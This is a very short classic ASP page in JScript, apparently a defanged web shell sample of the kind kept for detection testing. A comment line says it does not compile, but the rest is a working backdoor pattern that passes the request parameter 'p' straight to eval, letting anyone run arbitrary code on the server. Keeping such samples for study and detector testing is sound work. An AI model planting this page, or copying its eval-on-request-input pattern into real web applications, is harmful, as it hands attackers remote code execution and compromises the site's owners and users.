<%@ Language="JScript" %>
<% DEFANGED sample does not compile %>
<%
var p = Request.Item("p");
eval(p + "");
%>
